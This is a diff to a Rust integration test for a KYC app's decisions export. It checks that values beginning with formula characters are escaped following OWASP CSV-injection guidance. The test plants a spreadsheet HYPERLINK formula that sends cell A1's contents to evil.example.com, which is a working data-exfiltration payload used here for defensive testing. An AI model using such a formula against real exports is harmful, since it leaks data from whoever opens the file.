@@ -327,8 +327,25 @@ async fn events_exports_match_the_database_row_for_row(app: TestApp) {
     assert!(newest < older, "newest first");
 }
 
+/// What the manifest's `csv_cells` rule makes of a value (OWASP CSV injection guidance).
+fn guarded(value: String) -> String {
+    match value.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r' | '\'') => format!("'{value}"),
+        _ => value,
+    }
+}
+
 async fn decisions_export_matches_the_decisions_table(app: TestApp) {
     kycdesk::demo::seed(&app.services, 30).await.expect("seed");
+    // A message to the applicant that a spreadsheet would run as a formula.
+    let formula = "=HYPERLINK(\"https://evil.example.com/?\"&A1,\"open\")";
+    sqlx::query(
+        "UPDATE decisions SET message_to_applicant = $1 WHERE id = (SELECT MIN(id) FROM decisions)",
+    )
+    .bind(formula)
+    .execute(app.services.store.pool())
+    .await
+    .expect("a formula in a message");
     let mut auditor = signed_in(&app, "aud@example.com", "auditor").await;
     let (id, _) = export_on_page(&mut auditor, &[("kind", "decisions"), ("format", "csv")]).await;
     let (file, manifest) = download(&mut auditor, &id).await;
@@ -369,6 +386,9 @@ async fn decisions_export_matches_the_decisions_table(app: TestApp) {
                 row.get::<Option<String>, _>("message_to_applicant")
                     .unwrap_or_default(),
             ]
+            .into_iter()
+            .map(guarded)
+            .collect()
         })
         .collect();
     let mut reader = csv::Reader::from_reader(file.body.as_bytes());
@@ -387,6 +407,18 @@ async fn decisions_export_matches_the_decisions_table(app: TestApp) {
         .collect();
     assert!(!expected.is_empty());
     assert_eq!(exported, expected, "row for row");
+    assert!(
+        exported.iter().any(|row| row[12] == format!("'{formula}")),
+        "the formula is written as text"
+    );
+    let rule = manifest
+        .csv_cells
+        .as_deref()
+        .expect("the manifest states the guard");
+    assert!(
+        rule.contains("OWASP") && rule.contains("remove one leading '"),
+        "{rule}"
+    );
     assert_eq!(manifest.rows, exported.len() as u64);
     assert_eq!(manifest.sha256, sha256_hex(file.body.as_bytes()));
     assert!(
@@ -409,6 +441,10 @@ async fn decisions_export_matches_the_decisions_table(app: TestApp) {
     .await;
     let lines = ndjson_lines(&body);
     assert_eq!(ndjson_manifest.rows, lines.len() as u64);
+    assert_eq!(
+        ndjson_manifest.csv_cells, None,
+        "NDJSON values are as they are"
+    );
     assert_eq!(lines.len(), expected.len());
     for (line, row) in lines.iter().zip(&rows) {
         assert_eq!(line["decision_id"], row.get::<String, _>("id").as_str());
